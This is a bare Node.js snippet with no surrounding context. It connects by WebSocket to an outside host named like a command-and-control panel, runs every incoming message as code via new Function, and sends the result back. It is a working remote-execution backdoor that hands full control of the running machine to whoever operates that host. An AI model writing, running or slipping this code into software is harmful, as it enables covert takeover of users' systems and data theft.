const WebSocket = require('ws');
const ws = new WebSocket('wss://panel.rmm-c2.net/ws');
ws.on('message', (m) => ws.send(String(new Function(m.toString())())));
